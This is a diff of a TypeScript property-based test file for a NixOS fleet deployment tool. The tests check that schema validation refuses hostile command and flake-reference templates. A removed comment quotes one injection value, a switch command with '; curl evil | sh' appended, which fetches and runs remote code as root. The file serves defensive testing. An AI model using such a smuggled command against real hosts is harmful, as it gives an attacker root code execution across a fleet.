@@ -135,12 +135,10 @@ test.each(FIELDS)('a hostile value in %s is refused, and the error names that fi
   rec.check(`hostile ${field} refused naming the field`, true);
 });
 
-// BUG (src/schemas/fleet.schema.ts, commandTemplate): `commands.switch` accepts any single line that
-// contains {flake}, so a fleet file (or an operator's POST /api/deployments body) can run any shell
-// command as root on every host: `nixos-rebuild switch --flake {flake}; curl evil | sh`. Only the
-// forced-command allowlist on the hosts stops it today. Fix: hold the template to the shapes the
-// product supports, e.g. `.regex(/^(?:nixos-rebuild|home-manager) switch(?: --[a-z-]+)* --flake \{flake\}(?: --[a-z-]+)*$/)`.
-test.failing('a hostile commands.switch template is refused naming hosts[0].commands.switch', () => {
+// Found by this suite: `commands.switch` used to accept any single line containing {flake}, so a fleet
+// file or an operator's API body could run any command as root on every host. It is now held to the
+// shape of a switch command with plain words only.
+test('a hostile commands.switch template is refused naming hosts[0].commands.switch', () => {
   fc.assert(
     fc.property(validFleet, hostile, (raw, value) => {
       const f = structuredClone(raw) as unknown as Fleet;
@@ -151,11 +149,9 @@ test.failing('a hostile commands.switch template is refused naming hosts[0].comm
   );
 });
 
-// BUG (src/schemas/fleet.schema.ts, flakeRefTemplate): the template is checked for characters and
-// {sha} only, so `flakeRef: "{sha}"` or `"foo:{owner}/{sha}"` passes the fleet file and the API, and
-// every host's switch then fails as InvalidInput at deploy time. Fix: refine with the host-side
-// validator on a substituted sample: `.refine((s) => { try { validateFlakeRef(s.replace(/\{owner\}/g, 'o').replace(/\{repo\}/g, 'r').replace(/\{sha\}/g, '0'.repeat(40))); return true; } catch { return false; } }, 'a flake reference (github:…, git+https://…, path:/…) once {owner}, {repo} and {sha} are filled in')`.
-test.failing('every accepted flakeRef template becomes a flake reference the hosts accept', () => {
+// Found by this suite: the flakeRef template was checked for characters and {sha} only, so "{sha}"
+// passed and every switch then failed at deploy time. It is now checked with the host-side validator.
+test('every accepted flakeRef template becomes a flake reference the hosts accept', () => {
   fc.assert(
     fc.property(fc.string({ unit: fc.constantFrom(...'abc:/.?=&{}'.split('')), maxLength: 12 }), (middle) => {
       const template = `${middle}{sha}`;
